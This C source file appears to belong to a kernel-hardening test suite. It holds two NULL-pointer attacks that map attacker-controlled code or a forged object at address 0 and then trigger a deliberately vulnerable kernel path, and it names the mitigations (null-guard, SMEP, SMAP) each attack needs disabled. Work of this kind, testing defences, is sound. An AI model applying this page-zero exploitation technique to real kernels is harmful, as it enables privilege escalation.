/*
 * NULL is an address.  Where the attacker may map page 0, a forgotten check of the kernel's leads
 * to code (null-guard) or to an object (null-object) that the attacker has put there.
 */
#include "user/attack/attack.h"

#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

/*
 * Puts size bytes at address 0.  A private file mapping, because memory that was writable never
 * becomes executable.  Goes on if the kernel refuses: perhaps page 0 is there all the same.
 */
static void
map_page_zero(const void *contents, size_t size, int prot)
{
	int fd = open("/tmp/page-zero", O_RDWR | O_CREAT | O_TRUNC, 0600);

	if (fd < 0 || write(fd, contents, size) != (ssize_t)size)
		give_up("/tmp/page-zero");
	if (mmap(NULL, 4096, prot, MAP_PRIVATE | MAP_FIXED | MAP_POPULATE, fd, 0) == MAP_FAILED)
		step("page 0 is refused");
	close(fd);
	unlink("/tmp/page-zero");
}

/* Whoever watches looks here what is at address 0. */
__attribute__((noinline)) void attack_page_zero(void);

void
attack_page_zero(void)
{
	__asm__ volatile("");
}

static void
run_function(void)
{
	struct vuln_places places = vuln_places();
	struct vuln_call none = { 0, 0 };

	step("legal: the kernel calls its own handler");
	vuln_call_legally();

	step("illegal: the handler is gone, and address 0 is the program's code");
	map_page_zero((const void *)attack_payload, PAYLOAD_SIZE, PROT_READ | PROT_EXEC);
	attack_page_zero();
	vuln(VULN_HANDLER_CLEAR, &none);
	vuln_call(places.mark);

	vuln(VULN_HANDLER_SET, &none);
}

static void
run_object(void)
{
	struct vuln_places places = vuln_places();
	struct vuln_object fake = { (uint64_t *)places.mark };
	struct vuln_set set = { 0, 1 };

	step("legal: the latest object takes a value");
	vuln(VULN_OBJECT_NEW, &set);
	set.value = 1;
	vuln(VULN_LATEST_SET, &set);

	step("illegal: the object is gone, and address 0 holds a forgery");
	map_page_zero(&fake, sizeof(fake), PROT_READ);
	vuln(VULN_OBJECT_FREE, &set);
	set.value = MAGIC;
	vuln(VULN_LATEST_SET, &set);
}

ATTACK(null_guard) = {
	.name = "null-guard",
	.what = "a NULL function pointer leads to the attacker's code at address 0",
	.needs_off_x86_64 = "null-guard,smep",
	.needs_off_aarch64 = "null-guard,smep",
	.run = run_function,
};

ATTACK(null_object) = {
	.name = "null-object",
	.what = "a NULL object pointer leads to the attacker's object at address 0",
	.needs_off_x86_64 = "null-guard,smap",
	.needs_off_aarch64 = "null-guard,smap",
	.run = run_object,
};
